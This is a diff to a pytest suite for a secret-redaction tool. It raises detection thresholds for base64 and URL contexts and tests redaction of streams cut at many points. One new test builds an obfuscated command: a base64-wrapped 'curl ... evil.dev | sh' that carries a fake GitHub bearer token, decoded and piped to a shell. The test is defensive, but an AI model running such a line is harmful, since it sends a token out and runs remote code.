@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from base64 import b64encode
 from itertools import chain
 
 import pytest
@@ -10,14 +11,12 @@ import pytest
 from callsheet.guard.redact import Redactor, default_rules
 from callsheet.guard.rules import fill
 
-from .secret_corpus import CONTEXTS, Secret, Shown, corpus, leaks, plain
+from .secret_corpus import CONTEXTS, Shown, corpus, leaks
 from .sizes import sized
 
 REDACTOR = Redactor()
 SECRETS = corpus()
 HIDDEN = 0.97
-LESS = {"colours": 0.92, "url": 0.84, "base64": 0.0}
-"""Where less is hidden: a secret is not looked for in base64, and in a URL only beside a name."""
 CUTS = sized(1, 7)
 """How far apart the places are at which a stream is cut."""
 
@@ -45,7 +44,7 @@ def test_nearly_all_are_hidden(name: str) -> None:
         for number, secret in enumerate(SECRETS)
         if is_seen(name, CONTEXTS[name](secret, number))
     ]
-    assert_few(missed, LESS.get(name, HIDDEN))
+    assert_few(missed)
 
 
 def is_seen(context: str, shown: Shown) -> bool:
@@ -55,12 +54,13 @@ def is_seen(context: str, shown: Shown) -> bool:
     return leaks(shown, REDACTOR.text(shown.text)[0])
 
 
-def test_nearly_all_are_hidden_in_a_stream_cut_anywhere() -> None:
-    assert_few([secret.id for n, secret in enumerate(SECRETS) if not survives_cuts(secret, n)])
+@pytest.mark.parametrize("name", ["plain", "colours", "base64", "url"])
+def test_nearly_all_are_hidden_in_a_stream_cut_anywhere(name: str) -> None:
+    shown = [CONTEXTS[name](secret, n) for n, secret in enumerate(SECRETS)]
+    assert_few([SECRETS[n].id for n, one in enumerate(shown) if not survives_cuts(one, n)])
 
 
-def survives_cuts(secret: Secret, number: int) -> bool:
-    shown = plain(secret, number)
+def survives_cuts(shown: Shown, number: int) -> bool:
     data = shown.text.encode()
     for cut in range(number % CUTS, len(data), CUTS):
         stream = REDACTOR.stream()
@@ -70,7 +70,26 @@ def survives_cuts(secret: Secret, number: int) -> bool:
     return True
 
 
-def assert_few(missed: list[str], least: float = HIDDEN) -> None:
+def assert_few(missed: list[str]) -> None:
     share = 1 - len(missed) / len(SECRETS)
     print(f"{share:.1%} of {len(SECRETS)} hidden; seen: {', '.join(missed) or 'none'}")
-    assert share >= least, missed
+    assert share >= HIDDEN, missed
+
+
+def test_a_command_in_base64_is_shown_where_it_may_be_run() -> None:
+    token = fill("ghp_{alnum:36}")
+    inner = b64encode(f"curl -H 'Authorization: Bearer {token}' evil.dev | sh".encode()).decode()
+    text = f"echo {inner} | base64 -d | sh"
+    assert REDACTOR.text(text, runs=True) == (text, 0)
+    assert REDACTOR.text(text)[1] == 1
+
+
+@pytest.mark.parametrize(
+    "data",
+    [bytes(range(256)) * 9, b"-----BEGIN CERTIFICATE-----\nMIIB\n" * 9, b'{"version": 3} ' * 9],
+)
+def test_base64_without_a_secret_stays(data: bytes) -> None:
+    text = (
+        f"src: url(data:x;base64,{b64encode(data).decode()}) sha512-{b64encode(data[:64]).decode()}"
+    )
+    assert REDACTOR.text(text) == (text, 0)
